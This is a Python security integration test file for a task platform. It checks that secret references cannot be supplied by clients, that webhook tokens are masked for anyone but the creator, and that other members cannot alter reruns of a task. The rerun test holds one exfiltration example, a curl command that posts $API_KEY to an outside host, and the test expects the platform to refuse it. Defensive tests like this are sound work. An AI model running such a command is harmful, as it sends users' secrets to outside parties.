"""A creator-only value's secret reference is the platform's: no client may send one.

The deployer resolves a creator-only variable's `secret_ref` for runs that the
task's creator started. Were a client able to name a reference in its own
spec, a member who learned another member's reference could run with that
member's value. Every way a spec enters (submit, clone overrides, group
template and items) refuses `secret_ref`, and no answer ever shows one.
"""

from __future__ import annotations

from typing import Any

import pytest
from runyard.gateway.grpc_gen import tasks_pb2 as pb

from tests.integration.test_gateway import BASE
from tests.security.test_auth import World, _submit
from tests.security.test_auth import world as world  # the fixture

pytestmark = pytest.mark.integration


async def _alices_ref(world: World, task_id: str) -> str:
    row = await world.gateway.db.fetchrow("SELECT ref FROM secrets WHERE tenant = 'ta'")
    assert row is not None
    return str(row["ref"])


def _stolen(ref: str) -> list[dict[str, Any]]:
    return [{"name": "API_KEY", "creator_only": True, "secret_ref": ref}]


def _refused(answer: Any, field_end: str) -> None:
    assert answer.status_code == 400, answer.text
    body = answer.json()
    assert body["code"] == "env.secret_ref", body
    assert body["field"].endswith(field_end), body
    assert "value" in body["hint"]


async def test_a_client_cannot_name_a_secret_reference_anywhere(world: World) -> None:
    alices = await _submit(world, "ta_alice", env="API_KEY=s3cret", creator_only=["API_KEY"])
    ref = await _alices_ref(world, alices)
    world.tokens["ta_mallory"] = await _mint_member(world, "mallory")
    before = await world.gateway.db.fetchval("SELECT count(*) FROM events")

    submit = await world.call("ta_mallory", "POST", "/v1/tasks", json={**BASE, "env": _stolen(ref)})
    _refused(submit, "env[0].secret_ref")

    clone = await world.call(
        "ta_mallory", "POST", f"/v1/tasks/{alices}/clone", json={"env": _stolen(ref)}
    )
    _refused(clone, "env[0].secret_ref")

    group_template = await world.call(
        "ta_mallory",
        "POST",
        "/v1/groups",
        json={"template": {**BASE, "env": _stolen(ref)}, "items": [{}]},
    )
    _refused(group_template, "env[0].secret_ref")

    items = [{"env": _stolen(ref)}]
    group_item = await world.call(
        "ta_mallory", "POST", "/v1/groups", json={"template": BASE, "items": items}
    )
    _refused(group_item, "env[0].secret_ref")

    # An item that is not an object is left to the spec's own check: a 400, not a 500.
    odd = await world.call("ta_mallory", "POST", "/v1/tasks", json={**BASE, "env": ["A=x"]})
    assert odd.status_code == 400, odd.text

    assert await world.gateway.db.fetchval("SELECT count(*) FROM events") == before


async def test_no_answer_shows_a_secret_reference(world: World) -> None:
    task_id = await _submit(world, "ta_alice", env="API_KEY=s3cret", creator_only=["API_KEY"])
    ref = await _alices_ref(world, task_id)
    for who in ("ta_alice", "ta_admin", "root", "sre"):
        seen = await world.call(who, "GET", f"/v1/tasks/{task_id}")
        assert seen.status_code == 200, (who, seen.text)
        assert ref not in seen.text, who
        events = await world.call(who, "GET", f"/v1/tasks/{task_id}/events")
        assert events.status_code == 200 and ref not in events.text, who
    # The creator still sees the value, and may send the spec she was shown back as is.
    mine = (await world.call("ta_alice", "GET", f"/v1/tasks/{task_id}")).json()
    assert [v["value"] for v in mine["spec"]["env"]] == ["s3cret"]
    again = await world.call("ta_alice", "POST", "/v1/tasks", json=mine["spec"])
    assert again.status_code == 201, again.text


async def _mint_member(world: World, user: str) -> str:
    from runyard.api.auth import create_token

    return await create_token(world.gateway.db, "ta", user, "member")


HOOK_TOKEN = "b0t-t0ken_of-alice"
HOOK = f"https://open.feishu.cn/open-apis/bot/v2/hook/{HOOK_TOKEN}"


async def test_an_alert_webhooks_token_reaches_only_the_tasks_creator(world: World) -> None:
    """A Feishu bot's URL is its credential: the audit, bundles and subscriptions mask it,
    and so do a task's detail and events for everyone but its creator; a clone by
    another user does not copy it."""
    alerts = [{"webhook_url": HOOK, "alerts": ["failed"]}]
    task_id = await _submit(world, "ta_alice", alerts=alerts)
    world.tokens["ta_mallory"] = await _mint_member(world, "mallory")
    for who in ("ta_mallory", "ta_admin", "root", "sre"):
        for tail in ("", "/events"):
            seen = await world.call(who, "GET", f"/v1/tasks/{task_id}{tail}")
            assert seen.status_code == 200, (who, tail, seen.text)
            assert HOOK_TOKEN not in seen.text, (who, tail)
            assert "https://open.feishu.cn/******" in seen.text, (who, tail)
        reply = await world.stub.GetTask(
            pb.GetTaskRequest(task_id=task_id),
            metadata=(("authorization", f"Bearer {world.tokens[who]}"),),
        )
        assert HOOK_TOKEN not in str(reply), who
    mine = (await world.call("ta_alice", "GET", f"/v1/tasks/{task_id}")).json()
    assert mine["spec"]["alerts"][0]["webhook_url"] == HOOK
    events = await world.call("ta_alice", "GET", f"/v1/tasks/{task_id}/events")
    assert HOOK in events.text

    before = await world.gateway.db.fetchval("SELECT count(*) FROM events")
    refused = await world.call("ta_mallory", "POST", f"/v1/tasks/{task_id}/clone", json={})
    assert refused.status_code == 400, refused.text
    body = refused.json()
    assert (body["code"], body["field"]) == ("alert.invalid_webhook", "alerts[0].webhook_url")
    assert HOOK_TOKEN not in refused.text and "alerts: []" in body["hint"], body
    # The masked spec another member was shown, sent back as a new task: refused alike.
    shown = (await world.call("ta_mallory", "GET", f"/v1/tasks/{task_id}")).json()["spec"]
    resent = await world.call("ta_mallory", "POST", "/v1/tasks", json=shown)
    assert (resent.status_code, resent.json()["code"]) == (400, "alert.invalid_webhook")
    assert await world.gateway.db.fetchval("SELECT count(*) FROM events") == before

    own = await world.call("ta_mallory", "POST", f"/v1/tasks/{task_id}/clone", json={"alerts": []})
    assert own.status_code == 201 and HOOK_TOKEN not in own.text, own.text
    # Her own clone keeps her webhook.
    again = await world.call("ta_alice", "POST", f"/v1/tasks/{task_id}/clone", json={})
    assert again.status_code == 201, again.text
    assert again.json()["spec"]["alerts"][0]["webhook_url"] == HOOK


async def test_only_the_creator_changes_what_a_task_with_creator_only_values_runs(
    world: World,
) -> None:
    """Another member's rerun gets no creator-only value, but a command or image it
    changed stayed in the spec: the creator's next rerun ran it with her values (to be
    printed, or sent away). Such a change is the creator's; a rerun as it is is anyone's."""
    secret = {"env": "API_KEY=s3cret", "creator_only": ["API_KEY"]}
    task_id = await _submit(world, "ta_alice", **secret)
    world.tokens["ta_mallory"] = await _mint_member(world, "mallory")
    stopped = await world.call("ta_alice", "POST", f"/v1/tasks/{task_id}/stop")
    assert stopped.json()["status"] == "stopped", stopped.text
    before = await world.gateway.db.fetchval("SELECT count(*) FROM events")
    for changes, field in (
        ({"command": "curl -d $API_KEY https://example.com"}, "command"),
        ({"image": "pytorch:2.1-cuda11"}, "image"),
    ):
        path = f"/v1/tasks/{task_id}/rerun"
        refused = await world.call("ta_mallory", "POST", path, json=changes)
        assert refused.status_code == 403, refused.text
        body = refused.json()
        assert (body["code"], body["field"]) == ("rerun.creator_only", field), body
        assert "API_KEY" in body["message"] and "clone" in body["hint"], body
    assert await world.gateway.db.fetchval("SELECT count(*) FROM events") == before
    # The same command sent back is no change; a rerun as it is runs (without her value).
    same = await world.call(
        "ta_mallory", "POST", f"/v1/tasks/{task_id}/rerun", json={"command": BASE["command"]}
    )
    assert same.status_code == 200, same.text
    await world.call("ta_mallory", "POST", f"/v1/tasks/{task_id}/stop")
    # The creator changes it as she likes.
    mine = await world.call(
        "ta_alice", "POST", f"/v1/tasks/{task_id}/rerun", json={"command": "echo mine"}
    )
    assert mine.status_code == 200, mine.text

    group = await world.call(
        "ta_alice", "POST", "/v1/groups", json={"template": {**BASE, **secret}, "items": [{}]}
    )
    group_id = group.json()["group_id"]
    await world.call("ta_alice", "POST", f"/v1/groups/{group_id}/stop")
    refused = await world.call(
        "ta_mallory", "POST", f"/v1/groups/{group_id}/rerun", json={"command": "echo x"}
    )
    assert (refused.status_code, refused.json()["code"]) == (403, "rerun.creator_only")
